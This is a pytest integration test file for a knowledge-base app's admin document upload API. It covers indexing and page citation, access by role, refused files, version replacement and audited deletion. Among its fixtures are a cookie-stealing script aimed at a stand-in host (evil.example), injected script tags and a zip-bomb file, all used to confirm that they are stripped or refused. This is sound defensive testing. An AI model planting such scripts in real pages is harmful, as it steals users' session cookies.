"""Documents admins upload, through the real API (real app and uvicorn, real SQLite, the real
Edge index, embedder and in-process job runner): each type indexed and cited (a PDF by page),
refused files answered with problem+json and nothing kept, a new version replacing the old
one without a gap, deletion that leaves nothing behind and is audited, admins only."""

from __future__ import annotations

import hashlib
import sqlite3
import threading
import time
import uuid
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from lumen.knowledge.uploads.models import DocumentUpload
from lumen.knowledge.uploads.tasks import INGEST_UPLOAD, upload_aad
from tests.accounts import audit_rows
from tests.chat.sse_client import new_conversation, stream_answer
from tests.knowledge.uploads import files

FINISHED = ("succeeded", "failed", "cancelled")
PROBLEM = "application/problem+json"


def upload(
    client: httpx.Client, collection: str, *named: tuple[str, bytes, str | None]
) -> httpx.Response:
    """POST ``(name, bytes, content type)`` files into ``collection``."""
    return client.post(
        "/api/v1/admin/documents",
        data={"collection": collection},
        files=[
            ("files", (name, data, kind or "application/octet-stream"))
            for name, data, kind in named
        ],
    )


def wait_for(client: httpx.Client, job_id: str, timeout_s: float = 180) -> dict[str, Any]:
    """The upload's progress once its job has finished."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        body = client.get(f"/api/v1/admin/uploads/{job_id}").json()
        if body["job"]["status"] in FINISHED:
            return body
        time.sleep(0.2)
    raise AssertionError(f"upload job {job_id} did not finish")


def uploaded(
    client: httpx.Client, collection: str, name: str, data: bytes, kind: str | None = None
) -> str:
    """Upload one file, wait for its job to succeed; its document id."""
    response = upload(client, collection, (name, data, kind))
    assert response.status_code == 202, response.text
    body = wait_for(client, response.json()["job"]["id"])
    assert body["job"]["status"] == "succeeded", body
    assert body["files"][0]["status"] == "indexed"
    return str(body["files"][0]["document_id"])


def points_of(runtime, document_id: str, word: str) -> list[Any]:  # type: ignore[no-untyped-def]
    """The index points of one document that the BM25 ranking finds for ``word``."""
    return runtime.index.query(
        None, runtime.bm25.encode_query(word), 100, document_ids=[document_id]
    )


def rows(runtime, sql: str, *args: object) -> list[tuple[Any, ...]]:  # type: ignore[no-untyped-def]
    with sqlite3.connect(runtime.settings.data_dir / "lumen.db") as raw:
        return raw.execute(sql, args).fetchall()


def test_an_uploaded_pdf_is_searched_and_cited_with_its_page_for_roles_that_read_its_collection(
    admin, pharma, patient, small_runtime
) -> None:  # type: ignore[no-untyped-def]
    data = files.pdf(
        [
            ["Contents: scope, responsibilities, references.", "Approved by the director."],
            [
                "Calibrate the quokkaline analyser every fourteen days.",
                "Record each calibration of the quokkaline analyser in the device log.",
            ],
        ],
        title="Quokkaline calibration handbook",
    )
    document_id = uploaded(
        admin.client, "regulatory", "Quokkaline SOP.pdf", data, "application/pdf"
    )
    assert document_id == "upload:regulatory:quokkaline-sop.pdf"

    hits = admin.client.get(
        "/api/v1/search", params={"q": "How often is the quokkaline analyser calibrated?"}
    ).json()["items"]
    top = hits[0]
    assert top["document_id"] == document_id, hits
    assert (top["page"], top["section"]) == (2, "Page 2")
    assert "every fourteen days" in top["passage"]

    answer = stream_answer(
        pharma.client,
        new_conversation(pharma.client),
        "How often should the quokkaline analyser be calibrated?",
    )
    cited = [s for s in answer.first("meta")["sources"] if s["document_id"] == document_id]
    assert cited and cited[0]["page"] == 2 and cited[0]["section"] == "Page 2"
    assert "every fourteen days" in cited[0]["snippet"]
    document = pharma.client.get(f"/api/v1/documents/{document_id}").json()
    assert [(s["title"], s["page"]) for s in document["sections"]] == [("Page 1", 1), ("Page 2", 2)]

    # Regulatory documents are for pharma staff and admins: a patient neither gets them cited
    # nor reads them.
    answer = stream_answer(
        patient.client,
        new_conversation(patient.client),
        "How often should the quokkaline analyser be calibrated?",
    )
    assert all(s["document_id"] != document_id for s in answer.first("meta")["sources"])
    assert patient.client.get(f"/api/v1/documents/{document_id}").status_code == 404
    assert admin.client.delete(f"/api/v1/admin/documents/{document_id}").status_code == 204


def test_word_html_markdown_and_text_are_indexed_as_plain_text(admin, small_runtime) -> None:  # type: ignore[no-untyped-def]
    docx = files.word(
        [
            ("Heading 1", "Storage of zorbex vials"),
            ("Normal", "Store zorbex vials upright in the refrigerator between 2 and 8 degrees."),
        ],
        title="Zorbex handling",
    )
    html = files.html_page(
        "Zorbex for patients",
        "What is zorbex?",
        [
            "Zorbex is a made-up medicine used in these tests to check that an uploaded web "
            "page gives its article and not its menus, footers or scripts to the index.",
            "Take zorbex with food. Tell your doctor about any other medicines you take, "
            "including vitamins and herbal products, before you start zorbex.",
        ],
        script="document.location='https://evil.example/?c='+document.cookie",
    )
    markdown = b"# Zorbex dosing\n\nOne tablet of zorbex a day.\n\n<script>steal()</script>\n"
    text = (
        "Zorbex leaflet: keep out of the reach of children. Ne pas dépasser la dose prescrite. "
        "Caféine et grossesse : évitez plus de 200 mg par jour ; préférez l'eau."
    ).encode("cp1252")
    response = upload(
        admin.client,
        "regulatory",
        ("zorbex-sop.docx", docx, None),
        ("zorbex.html", html, "text/html"),
        ("zorbex-dosing.md", markdown, "text/markdown"),
        ("zorbex-leaflet.txt", text, "text/plain"),
    )
    assert response.status_code == 202, response.text
    started = response.json()
    assert started["job"]["kind"] == "ingest_upload" and started["job"]["total"] in (None, 4)
    assert [f["kind"] for f in started["files"]] == ["docx", "html", "markdown", "text"]
    body = wait_for(admin.client, started["job"]["id"])
    assert body["job"]["status"] == "succeeded" and body["job"]["done"] == 4, body
    assert body["job"]["unit"] == "files"

    ids = [f["document_id"] for f in body["files"]]
    details = [admin.client.get(f"/api/v1/admin/documents/{i}").json() for i in ids]
    word_doc, page, md, leaflet = details
    assert [s["title"] for s in word_doc["sections"]] == ["Storage of zorbex vials"]
    assert word_doc["title"] == "Zorbex handling" and word_doc["chunks"]
    assert word_doc["uploads"][0]["file_name"] == "zorbex-sop.docx"
    html_text = " ".join(c["text"] for c in page["chunks"])
    assert "Take zorbex with food." in html_text
    for absent in ("Nav link", "Privacy policy", "document.cookie", "evil.example", "<"):
        assert absent not in html_text
    assert " ".join(c["text"] for c in md["chunks"]) == "One tablet of zorbex a day."
    assert "Ne pas dépasser la dose prescrite." in leaflet["chunks"][0]["text"]
    stored = rows(small_runtime, "SELECT text FROM documents WHERE id IN (?, ?)", ids[1], ids[2])
    for (stored_text,) in stored:
        for absent in ("<script", "steal()", "document.cookie", "alert"):
            assert absent not in stored_text

    listed = admin.client.get(
        "/api/v1/admin/knowledge/documents", params={"source": "upload", "q": "zorbex", "limit": 2}
    ).json()
    assert listed["total"] == 4 and len(listed["items"]) == 2
    for document_id in ids:
        assert admin.client.delete(f"/api/v1/admin/documents/{document_id}").status_code == 204


REFUSED: list[tuple[str, Callable[[], bytes], str | None, int, str]] = [
    ("locked.pdf", files.encrypted_pdf, "application/pdf", 422, "encrypted"),
    ("cut.pdf", files.broken_pdf, "application/pdf", 422, "could not be read"),
    ("bomb.docx", lambda: files.zip_bomb_docx(160 * 1024 * 1024), None, 413, "unpacks to"),
    ("tool.pdf", files.executable, "application/pdf", 415, "application/x-executable"),
    (
        "page.pdf",
        lambda: b"<html><body><p>Not a PDF</p></body></html>",
        "application/pdf",
        415,
        "HTML",
    ),
    ("huge.txt", lambda: b"a" * (20 * 1024 * 1024 + 1), "text/plain", 413, "bytes"),
    (
        "note.txt",
        lambda: b"Dose 5 mg.\n<script>alert(1)</script>",
        "text/plain",
        422,
        "HTML markup",
    ),
]


@pytest.mark.parametrize(
    ("name", "make", "kind", "status", "says"), REFUSED, ids=[r[0] for r in REFUSED]
)
def test_a_refused_file_gets_problem_json_and_nothing_is_kept(
    admin,
    small_runtime,
    name: str,
    make: Callable[[], bytes],
    kind: str | None,
    status: int,
    says: str,
) -> None:  # type: ignore[no-untyped-def]
    jobs_before = rows(small_runtime, "SELECT count(*) FROM jobs")
    response = upload(admin.client, "regulatory", (name, make(), kind))
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == PROBLEM
    problem = response.json()
    assert problem["status"] == status and problem["file"] == name and says in problem["detail"]
    assert rows(small_runtime, "SELECT count(*) FROM jobs") == jobs_before
    assert rows(
        small_runtime, "SELECT count(*) FROM document_uploads WHERE file_name = ?", name
    ) == [(0,)]
    assert (
        admin.client.get("/api/v1/admin/knowledge/documents", params={"q": name}).json()["total"]
        == 0
    )


def test_one_refused_file_refuses_the_whole_upload_naming_each_file(admin, small_runtime) -> None:  # type: ignore[no-untyped-def]
    response = upload(
        admin.client,
        "regulatory",
        ("fine.txt", b"A perfectly good note about hand hygiene.", "text/plain"),
        ("locked.pdf", files.encrypted_pdf(), "application/pdf"),
        ("fake.pdf", b"plain words", "application/pdf"),
    )
    assert response.status_code == 422 and response.headers["content-type"] == PROBLEM
    assert [f["file"] for f in response.json()["files"]] == ["locked.pdf", "fake.pdf"]
    assert rows(
        small_runtime, "SELECT count(*) FROM document_uploads WHERE file_name = 'fine.txt'"
    ) == [(0,)]


def test_a_new_version_replaces_the_old_one_without_a_gap(admin, small_runtime) -> None:  # type: ignore[no-untyped-def]
    old = "\n\n".join(
        f"Wombatine procedure step {n}: the old wording of step {n} of the wombatine procedure "
        f"says to log every wombatine dose on paper form {n}."
        for n in range(1, 30)
    )
    document_id = uploaded(admin.client, "regulatory", "wombatine.txt", old.encode(), "text/plain")
    old_chunks = admin.client.get(f"/api/v1/admin/documents/{document_id}").json()["chunk_count"]
    assert old_chunks > 2

    seen: list[bool] = []
    stop = threading.Event()

    def search_meanwhile() -> None:
        with httpx.Client(base_url=str(admin.client.base_url), cookies=admin.client.cookies) as c:
            while not stop.is_set():
                items = c.get("/api/v1/search", params={"q": "wombatine procedure", "k": 5}).json()[
                    "items"
                ]
                seen.append(any(hit["document_id"] == document_id for hit in items))

    searcher = threading.Thread(target=search_meanwhile)
    searcher.start()
    try:
        new = "Wombatine procedure, version 2: record every wombatine dose in the electronic log."
        response = upload(admin.client, "regulatory", ("Wombatine.TXT", new.encode(), "text/plain"))
        body = wait_for(admin.client, response.json()["job"]["id"])
    finally:
        stop.set()
        searcher.join(30)
    assert body["files"][0]["document_id"] == document_id, "the same name is the same document"
    assert seen and all(seen), "the document was findable throughout the replacement"

    detail = admin.client.get(f"/api/v1/admin/documents/{document_id}").json()
    assert detail["chunk_count"] == 1 and detail["chunks"][0]["text"] == new
    assert len(points_of(small_runtime, document_id, "wombatine")) == 1, "old points are gone"
    assert [u["status"] for u in detail["uploads"]] == ["indexed", "replaced"]
    stored = rows(
        small_runtime,
        "SELECT count(*) FROM document_uploads WHERE document_id = ? AND ciphertext IS NOT NULL",
        document_id,
    )
    assert stored == [(1,)], "only the current version's file is kept"
    assert admin.client.delete(f"/api/v1/admin/documents/{document_id}").status_code == 204


def test_deleting_a_document_removes_everything_of_it_and_is_audited(admin, small_runtime) -> None:  # type: ignore[no-untyped-def]
    secret = "Numbatine protocol for the ward: confidential wording that never reaches the log."
    document_id = uploaded(
        admin.client, "regulatory", "numbatine.txt", secret.encode(), "text/plain"
    )
    assert points_of(small_runtime, document_id, "numbatine")

    response = admin.client.delete(f"/api/v1/admin/documents/{document_id}")
    assert response.status_code == 204
    assert points_of(small_runtime, document_id, "numbatine") == []
    assert admin.client.get(f"/api/v1/admin/documents/{document_id}").status_code == 404
    assert admin.client.get(f"/api/v1/documents/{document_id}").status_code == 404
    for table in ("documents", "document_sections", "document_uploads"):
        column = "id" if table == "documents" else "document_id"
        assert rows(
            small_runtime, f"SELECT count(*) FROM {table} WHERE {column} = ?", document_id
        ) == [(0,)]
    actions = [(r[4], r[5], r[6]) for r in audit_rows(small_runtime)]
    assert ("knowledge.delete", "document", document_id) in actions
    assert any(action == "knowledge.upload" and kind == "job" for action, kind, _ in actions)
    assert "Numbatine protocol" not in " ".join(str(r) for r in audit_rows(small_runtime))
    again = admin.client.delete(f"/api/v1/admin/documents/{document_id}")
    assert again.status_code == 404 and again.headers["content-type"] == PROBLEM


def test_a_document_with_a_version_still_indexing_is_not_deleted(admin, small_runtime) -> None:  # type: ignore[no-untyped-def]
    document_id = uploaded(
        admin.client, "regulatory", "bilby.txt", b"Bilby ward rounds start at nine."
    )
    with small_runtime.db.session() as session:
        pending = DocumentUpload(
            batch_id=uuid.uuid4(), position=0, document_id=document_id, collection="regulatory",
            file_name="bilby.txt", kind="text", size_bytes=1, sha256="0" * 64, status="queued",
        )  # fmt: skip
        session.add(pending)
        session.commit()
    refused = admin.client.delete(f"/api/v1/admin/documents/{document_id}")
    assert refused.status_code == 409 and refused.headers["content-type"] == PROBLEM
    assert "still being indexed" in refused.json()["detail"]
    assert points_of(small_runtime, document_id, "bilby"), "nothing of it was deleted"

    with small_runtime.db.session() as session:
        stored = session.get(DocumentUpload, pending.id)
        assert stored is not None
        stored.status = "failed"
        session.add(stored)
        session.commit()
    assert admin.client.delete(f"/api/v1/admin/documents/{document_id}").status_code == 204


def test_an_upload_is_embedded_in_the_low_priority_ingestion_child(admin, small_runtime) -> None:  # type: ignore[no-untyped-def]
    child = small_runtime.ingestion_process
    assert child is not None, "the embedded default embeds in a child process"
    child.close()
    assert child.pid is None
    document_id = uploaded(admin.client, "regulatory", "quoll.txt", b"Quoll ward: visits at two.")
    assert child.pid is not None, "the upload started the child to embed it"
    assert points_of(small_runtime, document_id, "quoll")
    assert admin.client.delete(f"/api/v1/admin/documents/{document_id}").status_code == 204


def test_a_file_that_fails_in_its_job_fails_alone(admin, small_runtime) -> None:  # type: ignore[no-untyped-def]
    """Files are checked before they are kept, so a job meets a bad file only if its stored
    copy is not what was checked: one such is stored here beside a good one, and only it
    fails."""
    batch = uuid.uuid4()
    contents = [b"Dingo ward handover happens at six.", b"\x00\x01 not text at all"]
    with small_runtime.db.session() as session:
        for position, data in enumerate(contents):
            name = f"dingo-{position}.txt"
            row = DocumentUpload(
                batch_id=batch, position=position, document_id=f"upload:regulatory:{name}",
                collection="regulatory", file_name=name, kind="text", size_bytes=len(data),
                sha256=hashlib.sha256(data).hexdigest(),
            )  # fmt: skip
            sealed = small_runtime.keys.seal_bytes(data, upload_aad(row.id))
            row.key_id, row.ciphertext = sealed.key_id, sealed.ciphertext
            session.add(row)
        session.commit()
    job = small_runtime.worker.submit(INGEST_UPLOAD, str(batch), unit="files")
    progress = wait_for(admin.client, str(job.id))
    assert progress["job"]["status"] == "failed" and progress["job"]["failed_items"] == 1
    assert progress["job"]["done"] == 2 and progress["job"]["total"] == 2
    assert [f["status"] for f in progress["files"]] == ["indexed", "failed"]
    assert "binary" in progress["files"][1]["error"]
    good = "upload:regulatory:dingo-0.txt"
    assert admin.client.delete(f"/api/v1/admin/documents/{good}").status_code == 204


def test_only_admins_upload_list_read_and_delete_documents(pharma, patient) -> None:  # type: ignore[no-untyped-def]
    for account in (pharma, patient):
        response = upload(account.client, "regulatory", ("x.txt", b"words", "text/plain"))
        assert response.status_code == 403 and response.headers["content-type"] == PROBLEM
        assert account.client.get("/api/v1/admin/knowledge/documents").status_code == 403
        assert account.client.get("/api/v1/admin/documents/medquad:x").status_code == 403
        assert account.client.delete("/api/v1/admin/documents/medquad:x").status_code == 403
    anonymous = httpx.post(
        str(pharma.client.base_url).rstrip("/") + "/api/v1/admin/documents",
        files=[("files", ("x.txt", b"words", "text/plain"))],
        data={"collection": "regulatory"},
    )
    assert anonymous.status_code in (401, 403)


def test_an_upload_without_a_collection_or_files_is_invalid(admin) -> None:  # type: ignore[no-untyped-def]
    response = admin.client.post(
        "/api/v1/admin/documents",
        data={"collection": "secret_stuff"},
        files=[("files", ("x.txt", b"words", "text/plain"))],
    )
    assert response.status_code == 422 and response.json()["field"] == "collection"
    response = admin.client.post(
        "/api/v1/admin/documents",
        data={"collection": "regulatory"},
        files=[("other", ("x.txt", b"w", "text/plain"))],
    )
    assert response.status_code == 422 and response.json()["field"] == "files"
